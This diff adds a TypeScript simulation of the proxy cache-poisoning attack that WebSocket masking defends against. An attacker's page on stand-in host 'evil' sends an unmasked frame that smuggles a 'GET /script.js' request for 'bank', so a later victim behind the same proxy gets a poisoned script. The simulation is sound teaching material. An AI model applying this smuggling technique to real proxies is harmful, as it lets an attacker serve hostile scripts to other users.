@@ -1,0 +1,80 @@
+import {
+  encodeFrame,
+  encodeUtf8,
+  OPCODE,
+  upgradeRequestHeaders,
+  encodeHttpRequest,
+} from '@wirelight/protocols';
+import type { ClientEnvironment, ServerEnvironment } from '../../realm/environment.js';
+import { publicScript } from '../../servers/unaware-proxy.js';
+
+/** The real script of the bank. */
+export function bank({ listen }: ServerEnvironment): void {
+  // #region program
+  listen((end) => {
+    end.onData = () => end.write(publicScript('pay(me)'), { layer: 'http' });
+  });
+  // #endregion
+}
+
+/** Agrees to any handshake; answers the first frame with a script, as if somebody had asked for one. */
+export function attackersServer({ listen }: ServerEnvironment): void {
+  // #region program
+  listen((end) => {
+    let isOpen = false;
+    end.onData = () => {
+      const answer = isOpen
+        ? publicScript('pay(thief)')
+        : encodeUtf8(
+            'HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n',
+          );
+      isOpen = true;
+      end.write(answer, { layer: 'http' });
+    };
+  });
+  // #endregion
+}
+
+/**
+ * The attacker's page. With the setting `masking` at `on` it sends what a browser sends; at `off` what a browser would
+ * send if there were no masks: the text of the page as it is.
+ */
+export function attackersPage({ connect, crypto, settings }: ClientEnvironment): void {
+  // #region program
+  const end = connect('evil:80');
+  if (end === null) return;
+  end.onOpen = () => {
+    const headers = upgradeRequestHeaders({
+      host: 'evil',
+      key: 'AAAAAAAAAAAAAAAAAAAAAA==',
+      origin: 'http://evil',
+    });
+    const body = new Uint8Array(0);
+    end.write(encodeHttpRequest({ method: 'GET', target: '/', headers, body }), { layer: 'http' });
+  };
+  end.onData = () => {
+    end.onData = null;
+    const frame = encodeFrame({
+      fin: true,
+      rsv1: false,
+      rsv2: false,
+      rsv3: false,
+      opcode: OPCODE.text,
+      maskingKey: settings['masking'] === 'on' ? crypto.getRandomValues(new Uint8Array(4)) : null,
+      payload: encodeUtf8('\r\nGET /script.js HTTP/1.1\r\nHost: bank\r\n\r\n'),
+    });
+    end.write(frame, { layer: 'websocket' });
+  };
+  // #endregion
+}
+
+/** Somebody else behind the same proxy, later, at the bank. */
+export function victim({ fetch, setTimeout, log }: ClientEnvironment): void {
+  // #region program
+  setTimeout(() => {
+    void fetch('http://bank/script.js').then(async (response) => {
+      log(`runs ${await response.text()}`);
+    });
+  }, 2000);
+  // #endregion
+}
